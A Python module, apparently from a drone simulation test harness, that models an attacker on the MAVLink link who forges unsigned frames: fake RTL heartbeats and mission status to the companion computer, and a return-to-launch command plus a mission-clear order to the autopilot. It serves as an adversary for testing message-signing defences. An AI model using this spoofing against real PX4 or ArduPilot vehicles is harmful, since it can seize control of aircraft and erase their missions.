"""An attacker on the link between vehicle and companion, without the signing key.

To the companion it says, as the autopilot, that the mode is RTL and another mission is aboard; to
the autopilot, as the companion, to return to launch and to clear the mission.
"""

from dataclasses import dataclass, field

from sim_bridge.app.flight.operator import MAV_CMD_DO_SET_MODE, RTL_PARAMS, command_long
from sim_bridge.autopilot.mavlink.codec import Encoder, Message

RTL_CUSTOM_MODE = {"px4": 4 << 16 | 5 << 24, "ardupilot": 6}
MAV_AUTOPILOT = {"px4": 12, "ardupilot": 3}


@dataclass(slots=True)
class Forger:
    """Sends forged, unsigned messages for one vehicle at every exchange."""

    system: int
    autopilot_kind: str
    told: int = 0
    _encoders: dict[int, Encoder] = field(default_factory=dict)

    def to_companion(self) -> list[bytes]:
        """Frames in the autopilot's name."""
        self.told += 1
        heartbeat = Message(
            "HEARTBEAT",
            type=2,
            autopilot=MAV_AUTOPILOT[self.autopilot_kind],
            base_mode=129,
            custom_mode=RTL_CUSTOM_MODE[self.autopilot_kind],
            system_status=4,
            mavlink_version=3,
        )
        another = Message("MISSION_CURRENT", seq=1, total=3)
        return [self._frame(1, heartbeat), self._frame(1, another)]

    def to_autopilot(self) -> list[bytes]:
        """Frames in the companion's name."""
        order = command_long(self.system, 1, MAV_CMD_DO_SET_MODE, *RTL_PARAMS[self.autopilot_kind])
        clear = Message("MISSION_CLEAR_ALL", target_system=self.system, target_component=1)
        return [self._frame(191, order), self._frame(191, clear)]

    def _frame(self, component: int, message: Message) -> bytes:
        encoder = self._encoders.setdefault(component, Encoder(self.system, component))
        return encoder.encode(message)
